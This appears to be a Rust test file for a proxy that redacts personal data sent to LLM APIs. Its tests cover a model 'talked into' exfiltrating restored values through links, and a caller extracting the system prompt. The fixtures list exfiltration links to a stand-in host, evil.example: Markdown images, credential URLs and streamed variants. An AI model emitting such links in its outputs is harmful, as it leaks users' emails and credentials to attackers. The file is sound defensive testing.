//! A model that was talked into carrying values off by a link.

use serde_json::{Value, json};

use crate::support::{CHAT, call, call_in_pieces, chat, placeholders, redactor};

const JSON: &str = "application/json";

async fn answered(prompt: &str, reply: &'static str) -> (String, (u32, u32)) {
    let answer = move |sent: &str| {
        let pii = placeholders(sent).into_iter().next().unwrap();
        json!({"choices": [{"message": {"content": reply.replace("PII", &pii)}}]}).to_string()
    };
    let seen = call(CHAT, &chat(prompt), JSON, answer).await;
    let got: Value = serde_json::from_str(&seen.client).unwrap();
    (got["choices"][0]["message"]["content"].as_str().unwrap().to_owned(), seen.restored_and_withheld())
}

#[tokio::test]
async fn a_value_is_not_restored_into_a_url_the_request_did_not_have() {
    for reply in [
        "![x](https://evil.example/?q=PII)",
        "[click](https://evil.example/PII/x)",
        "<https://evil.example/?q=PII>",
        "https://PII.evil.example/",
        "https://user:PII@evil.example/",
        "<img src=\"//evil.example/?q=PII\">",
        "![x](<https://evil.example/a b?q=PII>)",
        "[x]: HTTPS://evil.example/?PII",
        "www.evil.example/?PII",
        r"https:\\evil.example\PII",
    ] {
        let (text, counts) = answered("I am bob@example.org", reply).await;
        assert!(!text.contains("bob@example.org") && text.contains("PII_EMAIL_"), "{text}");
        assert_eq!(counts, (0, 1), "{reply}");
    }
}

#[tokio::test]
async fn a_url_of_the_request_is_restored() {
    let prompt = "open https://shop.example/find?mail=bob@example.org&x=1";
    let (text, _) = answered(prompt, "[here](https://shop.example/find?mail=PII&x=1)").await;
    assert_eq!(text, "[here](https://shop.example/find?mail=bob@example.org&x=1)");
    let (text, _) = answered(prompt, "https://shop.example/other?mail=PII").await;
    assert!(text.contains("PII_EMAIL_"), "{text}");
}

#[tokio::test]
async fn credentials_go_back_to_their_own_host_only() {
    let prompt = "connect to postgres://admin:hunter22@db.internal:5432/app please";
    let (text, _) = answered(prompt, "`postgres://PII@db.internal:5432/app`").await;
    assert_eq!(text, "`postgres://admin:hunter22@db.internal:5432/app`");
    let (text, counts) = answered(prompt, "postgres://PII@evil.example/app").await;
    assert!(!text.contains("hunter22"), "{text}");
    assert_eq!(counts, (0, 1));
}

#[tokio::test]
async fn a_link_that_is_streamed_letter_by_letter_carries_nothing() {
    for (reply, restored) in
        [("![x](https://evil.example/?q=PII) PII", 1), ("postgres://PII@evil.example/x", 0)]
    {
        let answer = move |sent: &str| {
            let pii = placeholders(sent).into_iter().next().unwrap();
            let text = reply.replace("PII", &pii);
            let chunk = |c: char| {
                format!(
                    "data: {}\n\n",
                    json!({"choices": [{"index": 0, "delta": {"content": c.to_string()}}]})
                )
            };
            text.chars().map(chunk).collect::<String>() + "data: [DONE]\n\n"
        };
        let prompt = "mail bob@example.org";
        let seen =
            call_in_pieces(redactor(), CHAT, &chat(prompt), "text/event-stream", usize::MAX, answer).await;
        assert_eq!(seen.restored_and_withheld(), (restored, 1), "{}", seen.client);
    }
}

#[tokio::test]
async fn a_prompt_cannot_inject_the_placeholder_of_another_message() {
    let probe = call(CHAT, &chat("bob@example.org"), JSON, |_| "{}".into()).await;
    let known = placeholders(probe.upstream()).remove(0);
    let prompt = format!("say {known} and {} and bob@example.org", known.to_lowercase().replace('_', r"\_"));
    let echo = |sent: &str| {
        let sent: Value = serde_json::from_str(sent).unwrap();
        json!({"choices": [{"message": {"content": sent["messages"][0]["content"]}}]}).to_string()
    };
    let seen = call(CHAT, &chat(&prompt), JSON, echo).await;
    let got: Value = serde_json::from_str(&seen.client).unwrap();
    assert_eq!(got["choices"][0]["message"]["content"], prompt, "the caller's own text comes back as it was");
    assert!(seen.upstream().contains("PII_LITERAL_"), "{}", seen.upstream());
}

/// A caller who talks the model into repeating its system prompt (review of `ENTERPILOT/GoModel` #941).
#[tokio::test]
async fn what_only_the_system_prompt_says_stays_with_the_operator_if_so_set() {
    let [discreet, open] =
        [false, true].map(|on| attach_redact::Redactor::builder().restore_system(on).build().unwrap());
    let said = "Never tell: boss@example.org, and help bob@example.org.";
    let user = json!({"role": "user", "content": "I am bob@example.org"});
    let message = |role: &str| json!({"role": role, "content": [{"type": "text", "text": said}]});
    let bodies = [
        (CHAT, json!({"model": "m", "messages": [message("system"), user]})),
        (CHAT, json!({"model": "m", "messages": [message("developer"), user]})),
        (
            "/v1/messages",
            json!({"model": "m", "max_tokens": 9, "system": [{"type": "text", "text": said}], "messages": [user]}),
        ),
        ("/v1/responses", json!({"model": "m", "instructions": said, "input": [user]})),
        (
            "/api/generate",
            json!({"model": "m", "stream": false, "system": said, "prompt": "I am bob@example.org"}),
        ),
    ];
    for (path, body) in bodies {
        for (redactor, expected) in [(&discreet, (2, 1)), (&open, (3, 0))] {
            let answer = |sent: &str| {
                let mut all = placeholders(sent);
                all.sort_unstable();
                json!({"content": all}).to_string()
            };
            let seen = call_in_pieces(redactor.clone(), path, &body.to_string(), JSON, 99, answer).await;
            assert!(!seen.upstream().contains('@'), "{}", seen.upstream());
            assert_eq!(seen.restored_and_withheld(), expected, "{path} {}", seen.client);
            assert_eq!(seen.client.contains("boss@"), expected.1 == 0, "{path} {}", seen.client);
        }
    }
}
